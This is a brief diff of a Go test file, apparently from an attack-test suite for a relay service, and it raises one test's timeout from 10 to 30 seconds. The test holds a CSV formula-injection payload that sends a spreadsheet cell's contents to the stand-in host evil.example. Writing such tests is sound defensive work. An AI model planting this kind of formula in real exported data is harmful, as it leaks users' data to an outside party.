@@ -145,7 +145,7 @@ func TestAttack08RefusedChangesAudited(t *testing.T) {
 func TestAttack09CSVFormula(t *testing.T) {
 	r := startRelay(t, "", "")
 	evil := `=HYPERLINK("http://evil.example/?"&A1,"click")`
-	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
 	defer cancel()
 	cl, err := client.Dial(ctx, r.Addr, client.Options{Customer: "shop", Secret: faults.Secret, PingInterval: -1})
 	if err != nil {
